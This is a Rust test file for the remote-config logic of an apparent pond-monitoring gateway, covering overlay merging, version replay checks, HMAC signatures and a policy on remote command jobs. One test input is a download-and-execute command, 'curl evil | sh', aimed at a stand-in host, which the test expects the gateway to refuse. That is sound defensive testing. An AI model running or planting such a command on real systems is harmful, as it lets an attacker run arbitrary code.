//! Every outcome of `consider` and `effective`, through a few helpers over one file.

use std::time::Duration;

use super::*;
use crate::config::{Every, JobKind, SensorSource, Threshold, Trigger};

const FILE: &str = r#"
[agent]
id = "pond-07"
timezone = "UTC"
state_dir = "/var/lib/tidegate"

[mqtt]
url = "mqtt://broker.example.com"
allow_remote_commands = false

[upload]
url = "https://ingest.example.com/v1/readings"
batch_size = 100

[buffer]
max_rows = 1000

[[bus]]
name = "rs485-a"
kind = "modbus-rtu"
port = "/dev/ttyUSB0"

[[bus]]
name = "sim"
kind = "simulated"

[[sensor]]
id = "pond7.do"
bus = "rs485-a"
slave = 3
register = 0
type = "f32"
unit = "mg/L"

[[sensor]]
id = "pond7.temp"
bus = "rs485-a"
slave = 4
register = 10

[[sensor]]
id = "pond7.sim"
bus = "sim"
model = { base = 7.5 }

[[alarm]]
id = "low-oxygen"
sensor = "pond7.do"
below = 5.0
run = "aerator"

[jobs.sample]
every = "5m"
jitter = "2s"

[jobs.aerator]
kind = "command"
command = ["/usr/local/bin/aerator", "on"]
timeout = "1m"

[jobs.report]
kind = "upload"
cron = "0 * * * *"
"#;

const KEY: &[u8] = b"farm-key";

fn file_with(mqtt_extra: &str) -> FileConfig {
    let text = FILE.replace(
        "allow_remote_commands = false\n",
        &format!("allow_remote_commands = false\n{mqtt_extra}"),
    );
    FileConfig::new(&text, "tidegate.toml").unwrap_or_else(|e| panic!("fixture: {e}"))
}

fn file() -> FileConfig {
    file_with("")
}

fn allowing() -> FileConfig {
    FileConfig::new(
        &FILE.replace(
            "allow_remote_commands = false",
            "allow_remote_commands = true",
        ),
        "tidegate.toml",
    )
    .unwrap()
}

fn signed_file() -> FileConfig {
    file_with("config_hmac_key_file = \"/etc/tidegate/config.key\"\n")
}

fn push(version: u64, config: &str) -> Vec<u8> {
    format!(r#"{{"version": {version}, "config": {config}}}"#).into_bytes()
}

fn signed(version: u64, config: &str, key: &[u8]) -> Vec<u8> {
    let hmac = sign(key, config.as_bytes());
    format!(r#"{{"version": {version}, "config": {config}, "hmac": "{hmac}"}}"#).into_bytes()
}

fn seen(v: u64) -> RemoteState {
    RemoteState::default().with_seen(v)
}

#[track_caller]
/// `consider` of an unsigned push on a gateway that has seen nothing yet.
fn first_push(version: u64, config: &str) -> Decision {
    consider(
        &push(version, config),
        false,
        &RemoteState::default(),
        &file(),
        None,
    )
}

fn applied(decision: Decision) -> (Config, RemoteState) {
    match decision {
        Decision::Apply { config, state } => (*config, state),
        other => panic!("not applied: {other:?}"),
    }
}

#[track_caller]
fn rejected(decision: Decision) -> (Option<u64>, String, Option<u64>) {
    match decision {
        Decision::Reject {
            version,
            error,
            seen,
        } => {
            assert!(!error.is_empty() && error.len() <= MAX_ERROR_BYTES);
            assert!(!error.contains('\n'), "{error}");
            (version, error, seen)
        }
        other => panic!("not rejected: {other:?}"),
    }
}

/// A push without a key against `file()`: the one-line error and the seen to persist.
#[track_caller]
fn check_rejected(state: &RemoteState, push: &[u8], expected: &str, seen: Option<u64>) {
    let (_, error, got_seen) = rejected(consider(push, false, state, &file(), None));
    assert_eq!(error, expected);
    assert_eq!(got_seen, seen, "seen");
}

// ---- applied ----

#[test]
fn a_good_push_is_applied_and_put_on_probation() {
    let state = seen(3);
    let (config, new_state) = applied(consider(
        &push(7, r#"{"jobs": {"sample": {"every": "1m"}}}"#),
        false,
        &state,
        &file(),
        None,
    ));
    let sample = config.job("sample").unwrap();
    assert_eq!(
        sample.trigger,
        Some(Trigger::Every(Every::Fixed(Duration::from_secs(60))))
    );
    assert_eq!(new_state.config_version(), 7);
    assert_eq!(new_state.highest_seen(), 7);
    assert_eq!(new_state.on_probation(), Some(7));
    assert_eq!(
        new_state.applied().unwrap().config,
        r#"{"jobs": {"sample": {"every": "1m"}}}"#
    );
    assert_eq!(new_state.previous(), None);
}

#[test]
fn an_empty_overlay_returns_to_the_file_alone() {
    let (config, state) = applied(consider(&push(2, "{}"), false, &seen(1), &file(), None));
    assert_eq!(&config, file().config());
    assert_eq!(state.config_version(), 2);
}

#[test]
fn a_signed_push_is_applied() {
    let (_, state) = applied(consider(
        &signed(4, r#"{"buffer": {"max_rows": 5}}"#, KEY),
        false,
        &RemoteState::default(),
        &signed_file(),
        Some(KEY),
    ));
    assert_eq!(state.highest_seen(), 4);
}

// ---- merge rules ----

#[test]
fn a_job_is_merged_key_by_key() {
    let (config, _) = applied(first_push(1, r#"{"jobs": {"sample": {"timeout": "20s"}}}"#));
    let sample = config.job("sample").unwrap();
    assert_eq!(sample.timeout, Some(Duration::from_secs(20)));
    // The file's keys stay: its trigger and its jitter.
    assert_eq!(sample.jitter, Duration::from_secs(2));
    assert_eq!(
        sample.trigger,
        Some(Trigger::Every(Every::Fixed(Duration::from_secs(300))))
    );
}

#[test]
fn a_trigger_in_the_overlay_replaces_the_files() {
    let (config, _) = applied(first_push(1, r#"{"jobs": {"report": {"every": "15m"}}}"#));
    let report = config.job("report").unwrap();
    assert_eq!(
        report.trigger,
        Some(Trigger::Every(Every::Fixed(Duration::from_secs(900))))
    );
    assert_eq!(report.kind, JobKind::Upload);
}

#[test]
fn a_new_job_is_added() {
    let (config, _) = applied(consider(
        &push(
            1,
            r#"{"jobs": {"sample-fast": {"kind": "sample", "sensors": ["pond7.do"], "every": "30s"}}}"#,
        ),
        false,
        &RemoteState::default(),
        &file(),
        None,
    ));
    assert_eq!(
        config.job("sample-fast").unwrap().kind,
        JobKind::Sample {
            sensors: Some(vec!["pond7.do".into()])
        }
    );
    assert_eq!(config.jobs.len(), file().config().jobs.len() + 1);
}

#[test]
fn a_sensor_is_replaced_whole_and_a_new_one_added() {
    let (config, _) = applied(consider(
        &push(
            1,
            r#"{"sensor": [
                {"id": "pond7.new", "bus": "sim", "model": {"base": 30.0}},
                {"id": "pond7.do", "bus": "rs485-a", "slave": 9, "register": 2}
            ]}"#,
        ),
        false,
        &RemoteState::default(),
        &file(),
        None,
    ));
    let ids: Vec<_> = config.sensors.iter().map(|s| s.id.as_str()).collect();
    assert_eq!(ids, ["pond7.do", "pond7.temp", "pond7.sim", "pond7.new"]);
    let replaced = &config.sensors[0];
    // Replaced whole: the file's unit and type are gone, not merged.
    assert_eq!(replaced.unit, None);
    let SensorSource::Modbus(map) = &replaced.source else {
        panic!("modbus")
    };
    assert_eq!((map.slave, map.register), (9, 2));
    assert_eq!(map.value_type, crate::config::ValueType::U16);
}

#[test]
fn a_bus_is_replaced_by_name() {
    let (config, _) = applied(consider(
        &push(
            1,
            r#"{"bus": [{"name": "rs485-a", "kind": "modbus-rtu", "port": "/dev/ttyUSB1", "baud": 19200}]}"#,
        ),
        false,
        &RemoteState::default(),
        &file(),
        None,
    ));
    assert_eq!(config.buses.len(), 2);
    let crate::config::BusKind::ModbusRtu { port, baud, .. } = &config.buses[0].kind else {
        panic!("rtu")
    };
    assert_eq!((port.to_str(), *baud), (Some("/dev/ttyUSB1"), 19200));
}

#[test]
fn upload_and_buffer_keys_override_the_files() {
    let (config, _) = applied(consider(
        &push(
            1,
            r#"{"upload": {"batch_size": 200, "gzip": false}, "buffer": {"keep_uploaded": "1d"}}"#,
        ),
        false,
        &RemoteState::default(),
        &file(),
        None,
    ));
    let upload = config.upload.unwrap();
    assert_eq!(upload.url, "https://ingest.example.com/v1/readings");
    assert_eq!((upload.batch_size, upload.gzip), (200, false));
    assert_eq!(config.buffer.max_rows, 1000);
    assert_eq!(config.buffer.keep_uploaded, Duration::from_secs(86_400));
}

#[test]
fn an_alarm_may_change_its_threshold_and_keep_its_command_run() {
    let (config, _) = applied(consider(
        &push(
            1,
            r#"{"alarm": [{"id": "low-oxygen", "sensor": "pond7.do", "below": 4.0, "run": "aerator"}]}"#,
        ),
        false,
        &RemoteState::default(),
        &file(),
        None,
    ));
    assert_eq!(config.alarms[0].threshold, Threshold::Below(4.0));
}

// ---- rejected: content ----

#[test]
fn a_bad_value_is_named_by_its_key() {
    check_rejected(
        &seen(6),
        &push(
            7,
            r#"{"sensor": [{"id": "pond7.x", "bus": "rs485-a", "slave": 0, "register": 0}]}"#,
        ),
        "config/set v7: sensor[0].slave: must be 1..=247, got 0",
        Some(7),
    );
}

#[test]
fn an_entry_is_named_by_the_overlays_index_not_the_merged_one() {
    // pond7.sim is the file's third sensor; in the overlay it is the first.
    check_rejected(
        &RemoteState::default(),
        &push(
            2,
            r#"{"sensor": [{"id": "pond7.sim", "bus": "sim", "model": {"base": "warm"}}]}"#,
        ),
        "config/set v2: sensor[0].model.base: expected a number, got a string",
        Some(2),
    );
}

#[test]
fn a_file_entry_the_overlay_broke_is_said_to_be_the_files() {
    check_rejected(
        &RemoteState::default(),
        &push(2, r#"{"bus": [{"name": "rs485-a", "kind": "simulated"}]}"#),
        "config/set v2: sensor[0].slave: a sensor on a simulated bus takes \"model\", not \"slave\" (in the local file); \
         sensor[0].register: a sensor on a simulated bus takes \"model\", not \"register\" (in the local file); \
         sensor[0].type: a sensor on a simulated bus takes \"model\", not \"type\" (in the local file); \
         sensor[0].model: missing required key (in the local file); \
         sensor[1].slave: a sensor on a simulated bus takes \"model\", not \"slave\" (in the local file); \
         sensor[1].register: a sensor on a simulated bus takes \"model\", not \"register\" (in the local file); \
         sensor[1].model: missing required key (in the local file)",
        Some(2),
    );
}

#[test]
fn every_problem_is_reported() {
    check_rejected(
        &RemoteState::default(),
        &push(
            3,
            r#"{"jobs": {"sample": {"every": "5 parsecs"}, "x": {"kind": "nope"}}, "buffer": {"max_rows": "many"}}"#,
        ),
        "config/set v3: buffer.max_rows: expected an integer, got a string; jobs.sample.every: invalid duration \"5 parsecs\"; jobs.x.kind: invalid value \"nope\": expected one of \"heartbeat\", \"sample\", \"upload\", \"cleanup\", \"command\"",
        Some(3),
    );
}

#[test]
fn null_in_an_overlay_is_named() {
    check_rejected(
        &RemoteState::default(),
        &push(3, r#"{"jobs": {"sample": {"every": null}}}"#),
        "config/set v3: jobs.sample.every: null is not a value here",
        Some(3),
    );
}

#[test]
fn a_name_twice_in_one_overlay_is_refused() {
    check_rejected(
        &RemoteState::default(),
        &push(
            3,
            r#"{"sensor": [{"id": "a", "bus": "sim", "model": {"base": 1}}, {"id": "a", "bus": "sim", "model": {"base": 2}}]}"#,
        ),
        "config/set v3: sensor[1].id: duplicate sensor id \"a\" (also sensor[0])",
        Some(3),
    );
}

#[test]
fn sections_of_the_local_file_are_refused() {
    for (section, doc) in [
        ("agent", r#"{"agent": {"id": "evil"}}"#),
        ("mqtt", r#"{"mqtt": {"url": "mqtt://evil"}}"#),
        ("metrics", r#"{"metrics": {"listen": "0.0.0.0:9464"}}"#),
    ] {
        check_rejected(
            &RemoteState::default(),
            &push(5, doc),
            &format!(
                "config/set v5: {section}: [{section}] is the local file's alone: a remote overlay may hold only jobs, bus, sensor, alarm, upload, buffer"
            ),
            Some(5),
        );
    }
    check_rejected(
        &RemoteState::default(),
        &push(5, r#"{"colour": "blue", "jobs": {}}"#),
        "config/set v5: colour: unknown section \"colour\": a remote overlay may hold only jobs, bus, sensor, alarm, upload, buffer",
        Some(5),
    );
}

#[test]
fn a_long_list_of_problems_fits_in_a_kibibyte() {
    let sensors: Vec<String> = (0..200)
        .map(|i| format!(r#"{{"id": "s{i}", "bus": "nowhere", "slave": 1, "register": 0}}"#))
        .collect();
    let doc = format!(r#"{{"sensor": [{}]}}"#, sensors.join(","));
    let (_, error, _) = rejected(consider(
        &push(9, &doc),
        false,
        &RemoteState::default(),
        &file(),
        None,
    ));
    assert!(
        error.starts_with("config/set v9: sensor[0].bus: unknown bus \"nowhere\"; "),
        "{error}"
    );
    assert!(error.ends_with(" more)"), "{error}");
    assert!(error.len() <= MAX_ERROR_BYTES);
}

#[test]
fn control_characters_in_keys_stay_on_one_line() {
    let (_, error, _) = rejected(first_push(9, r#"{"jobs": {"a\nb": {"kind": "nope"}}}"#));
    assert!(error.contains("jobs.a\\nb"), "{error}");
}

// ---- rejected: version ----

#[test]
fn a_version_not_greater_than_the_highest_seen_is_stale() {
    for version in [5, 7] {
        check_rejected(
            &seen(7),
            &push(version, "{}"),
            "config/set v{version}: version: stale: not greater than 7, the highest version this gateway has seen (a replay or an old document; push a higher version)"
                .replace("{version}", &version.to_string())
                .as_str(),
            None,
        );
    }
}

#[test]
fn a_retained_push_already_seen_is_ignored_not_answered() {
    let d = consider(&push(7, "{}"), true, &seen(7), &file(), None);
    assert_eq!(d, Decision::Ignore { version: 7 });
    assert_eq!(d.rejection(), None);
    // A retained push of a new version is taken like any other.
    applied(consider(&push(8, "{}"), true, &seen(7), &file(), None));
}

#[test]
fn a_replayed_older_signed_document_is_stale() {
    let file = signed_file();
    let v3 = signed(3, r#"{"buffer": {"max_rows": 3}}"#, KEY);
    let v5 = signed(5, r#"{"buffer": {"max_rows": 5}}"#, KEY);
    let (_, state) = applied(consider(
        &v3,
        false,
        &RemoteState::default(),
        &file,
        Some(KEY),
    ));
    let (_, state) = applied(consider(&v5, false, &state, &file, Some(KEY)));
    let (version, error, seen) = rejected(consider(&v3, false, &state, &file, Some(KEY)));
    assert_eq!((version, seen), (Some(3), None));
    assert!(
        error.starts_with("config/set v3: version: stale: not greater than 5"),
        "{error}"
    );
}

#[test]
fn versions_that_are_not_integers_of_one_or_more_are_answered_with_null() {
    for version in ["0", "-1", "1.5", "\"7\"", "null", "true", "{}"] {
        let push = format!(r#"{{"version": {version}, "config": {{}}}}"#);
        let (v, error, seen) = rejected(consider(
            push.as_bytes(),
            false,
            &RemoteState::default(),
            &file(),
            None,
        ));
        assert_eq!((v, seen), (None, None), "{version}");
        assert!(
            error.starts_with("config/set: version: must be an integer of 1 or more, got "),
            "{error}"
        );
    }
}

// ---- rejected: outside ----

#[test]
fn an_oversized_push_is_rejected_unread() {
    let padding = "x".repeat(MAX_PUSH_BYTES);
    let doc = format!(r#"{{"jobs": {{"sample": {{"every": "1m"}}}}, "pad": "{padding}"}}"#);
    check_rejected(
        &RemoteState::default(),
        &push(3, &doc),
        &format!(
            "config/set: push: {} bytes is over the 256 KiB limit for a config push",
            push(3, &doc).len()
        ),
        None,
    );
}

#[test]
fn not_json_is_rejected() {
    let (v, error, seen) = rejected(consider(
        b"version=7",
        false,
        &RemoteState::default(),
        &file(),
        None,
    ));
    assert_eq!((v, seen), (None, None));
    assert!(
        error.starts_with("config/set: push: not valid JSON: "),
        "{error}"
    );
    let (_, error, _) = rejected(consider(
        b"[]",
        false,
        &RemoteState::default(),
        &file(),
        None,
    ));
    assert!(
        error.starts_with("config/set: push: expected a JSON object"),
        "{error}"
    );
    check_rejected(
        &RemoteState::default(),
        br#"{"version": 3, "config": "jobs"}"#,
        "config/set v3: config: expected an object, got a string",
        None,
    );
}

#[test]
fn remote_config_off_refuses_every_push() {
    let off = file_with("remote_config = false\n");
    let (v, error, seen) = rejected(consider(
        &push(3, "{}"),
        false,
        &RemoteState::default(),
        &off,
        None,
    ));
    assert_eq!((v, seen), (Some(3), None));
    assert_eq!(
        error,
        "config/set v3: push: remote configuration is off on this gateway (mqtt.remote_config = false in the local file)"
    );
}

// ---- rejected: signature ----

#[test]
fn a_bad_or_missing_signature_is_rejected_and_not_seen() {
    let file = signed_file();
    let config = r#"{"buffer": {"max_rows": 5}}"#;
    let check = |push: &[u8], start: &str| {
        let (version, error, seen) = rejected(consider(
            push,
            false,
            &RemoteState::default(),
            &file,
            Some(KEY),
        ));
        assert_eq!((version, seen), (Some(9), None), "{error}");
        assert!(error.starts_with(start), "{error}");
    };
    check(
        &push(9, config),
        "config/set v9: hmac: missing: this gateway takes only signed pushes",
    );
    check(
        &signed(9, config, b"other-key"),
        "config/set v9: hmac: does not match the config member",
    );
    // Signed over a different spelling of the same JSON: not the exact text.
    let respelled = format!(
        r#"{{"version": 9, "config": {config}, "hmac": "{}"}}"#,
        sign(KEY, br#"{"buffer":{"max_rows":5}}"#)
    );
    check(respelled.as_bytes(), "config/set v9: hmac: does not match");
    let upper = String::from_utf8(signed(9, config, KEY)).unwrap();
    let upper = upper.replace(
        &sign(KEY, config.as_bytes()),
        &sign(KEY, config.as_bytes()).to_uppercase(),
    );
    check(
        upper.as_bytes(),
        "config/set v9: hmac: expected 64 lower-case hex digits",
    );
    // A bad signature cannot even be stale: it is refused before versions are compared.
    let (_, error, seen) = rejected(consider(
        &push(1, config),
        false,
        &seen(5),
        &file,
        Some(KEY),
    ));
    assert!(error.starts_with("config/set v1: hmac: missing"), "{error}");
    assert_eq!(seen, None);
}

#[test]
fn an_unreadable_key_refuses_every_push() {
    let (_, error, seen) = rejected(consider(
        &push(2, "{}"),
        false,
        &RemoteState::default(),
        &signed_file(),
        None,
    ));
    assert_eq!(seen, None);
    assert_eq!(
        error,
        "config/set v2: hmac: the key in mqtt.config_hmac_key_file (/etc/tidegate/config.key) could not be read, so every push is refused until it can"
    );
}

#[test]
fn an_hmac_is_ignored_without_a_key() {
    applied(consider(
        &signed(2, "{}", b"whatever"),
        false,
        &RemoteState::default(),
        &file(),
        None,
    ));
}

// ---- command policy ----

const ADD_COMMAND: &str =
    r#"{"jobs": {"pump": {"kind": "command", "command": ["/usr/local/bin/pump"], "every": "1h"}}}"#;

#[test]
fn a_new_command_job_is_refused_unless_allowed() {
    check_rejected(
        &RemoteState::default(),
        &push(2, ADD_COMMAND),
        "config/set v2: jobs.pump: a remote overlay may not add a command job (mqtt.allow_remote_commands is false in the local file)",
        Some(2),
    );
    let (config, _) = applied(consider(
        &push(2, ADD_COMMAND),
        false,
        &RemoteState::default(),
        &allowing(),
        None,
    ));
    assert!(matches!(
        config.job("pump").unwrap().kind,
        JobKind::Command(_)
    ));
}

#[test]
fn a_changed_command_job_is_refused_unless_allowed() {
    for (doc, message) in [
        (
            r#"{"jobs": {"aerator": {"every": "1m"}}}"#,
            "config/set v2: jobs.aerator: a remote overlay may not change a command job (mqtt.allow_remote_commands is false in the local file)",
        ),
        (
            r#"{"jobs": {"aerator": {"command": ["/bin/sh", "-c", "curl evil | sh"]}}}"#,
            "config/set v2: jobs.aerator: a remote overlay may not change a command job (mqtt.allow_remote_commands is false in the local file)",
        ),
        (
            r#"{"jobs": {"report": {"kind": "command", "command": ["/bin/x"]}}}"#,
            "config/set v2: jobs.report: a remote overlay may not make a job a command job (mqtt.allow_remote_commands is false in the local file)",
        ),
    ] {
        check_rejected(&RemoteState::default(), &push(2, doc), message, Some(2));
        applied(consider(
            &push(2, doc),
            false,
            &RemoteState::default(),
            &allowing(),
            None,
        ));
    }
    // The file's command job, repeated unchanged, is no change.
    applied(first_push(2, r#"{"jobs": {"aerator": {"timeout": "1m"}}}"#));
}

#[test]
fn an_alarm_may_not_be_pointed_at_a_command_job_unless_allowed() {
    let doc =
        r#"{"alarm": [{"id": "hot", "sensor": "pond7.temp", "above": 30.0, "run": "aerator"}]}"#;
    check_rejected(
        &RemoteState::default(),
        &push(2, doc),
        "config/set v2: alarm[0].run: a remote overlay may not point an alarm at the command job \"aerator\" (mqtt.allow_remote_commands is false in the local file)",
        Some(2),
    );
    applied(consider(
        &push(2, doc),
        false,
        &RemoteState::default(),
        &allowing(),
        None,
    ));
    // Pointing one at a job that is not a command is fine.
    applied(consider(
        &push(2, &doc.replace("aerator", "report")),
        false,
        &RemoteState::default(),
        &file(),
        None,
    ));
}

// ---- effective() and state ----

#[test]
fn effective_is_the_file_without_an_overlay() {
    assert_eq!(
        effective(&file(), &RemoteState::default()).unwrap(),
        *file().config()
    );
}

#[test]
fn effective_lays_the_persisted_overlay_over_the_file() {
    let (expected, state) = applied(first_push(4, r#"{"jobs": {"sample": {"every": "1m"}}}"#));
    let dir = tempfile::tempdir().unwrap();
    state.save(dir.path()).unwrap();
    let loaded = RemoteState::load(dir.path()).unwrap();
    assert_eq!(effective(&file(), &loaded).unwrap(), expected);
}

#[test]
fn an_overlay_that_no_longer_fits_the_file_is_refused_and_the_file_runs_alone() {
    let (_, state) = applied(consider(
        &push(
            4,
            r#"{"sensor": [{"id": "pond7.extra", "bus": "sim", "model": {"base": 1.0}}]}"#,
        ),
        false,
        &RemoteState::default(),
        &file(),
        None,
    ));
    // The file changed since: the simulated bus is gone.
    let changed = FileConfig::new(
        &FILE
            .replace("[[bus]]\nname = \"sim\"\nkind = \"simulated\"\n", "")
            .replace(
                "[[sensor]]\nid = \"pond7.sim\"\nbus = \"sim\"\nmodel = { base = 7.5 }\n",
                "",
            ),
        "tidegate.toml",
    )
    .unwrap();
    let refused = effective(&changed, &state).expect_err("no longer fits");
    assert_eq!(refused.version, 4);
    assert_eq!(
        refused.error,
        "config/set v4: sensor[0].bus: unknown bus \"sim\""
    );
    // And a file that stopped allowing remote commands refuses the overlay's command job.
    let (_, state) = applied(consider(
        &push(5, ADD_COMMAND),
        false,
        &RemoteState::default(),
        &allowing(),
        None,
    ));
    let refused = effective(&file(), &state).expect_err("commands no longer allowed");
    assert!(
        refused
            .error
            .starts_with("config/set v5: jobs.pump: a remote overlay may not add a command job")
    );
    assert!(effective(&allowing(), &state).is_ok());
}

#[test]
fn a_rolled_back_version_is_never_applied_again() {
    let doc = push(5, r#"{"jobs": {"sample": {"every": "1m"}}}"#);
    let (_, state) = applied(consider(&doc, false, &seen(2), &file(), None));
    let back = state.rolled_back();
    assert_eq!((back.config_version(), back.highest_seen()), (0, 5));
    assert_eq!(effective(&file(), &back).unwrap(), *file().config());
    // The same push, retained at the broker and delivered again at a reconnect:
    assert_eq!(
        consider(&doc, true, &back, &file(), None),
        Decision::Ignore { version: 5 }
    );
    // Sent again: stale.
    let (_, error, _) = rejected(consider(&doc, false, &back, &file(), None));
    assert!(
        error.starts_with("config/set v5: version: stale"),
        "{error}"
    );
    // Re-issued with a higher version, it is taken.
    applied(consider(
        &push(6, r#"{"jobs": {"sample": {"every": "1m"}}}"#),
        false,
        &back,
        &file(),
        None,
    ));
}

#[test]
fn decisions_name_their_version_and_rejections_their_answer() {
    let reject = first_push(3, r#"{"agent": {}}"#);
    assert_eq!(reject.version(), Some(3));
    let answer = reject.rejection().unwrap();
    assert_eq!((answer.version, answer.status), (Some(3), Status::Rejected));
    let apply = consider(
        &push(4, "{}"),
        false,
        &RemoteState::default(),
        &file(),
        None,
    );
    assert_eq!((apply.version(), apply.rejection()), (Some(4), None));
}

#[test]
fn one_line_cuts_a_single_huge_problem() {
    let huge = "é".repeat(2000);
    let line = one_line(
        Some(1),
        &[("a".into(), huge.clone()), ("b".into(), "x".into())],
    );
    assert!(line.len() <= MAX_ERROR_BYTES, "{}", line.len());
    assert!(line.ends_with("… (and 1 more)"), "{line}");
    let line = one_line(None, &[("a".into(), huge)]);
    assert!(line.len() <= MAX_ERROR_BYTES && line.ends_with('…'));
}
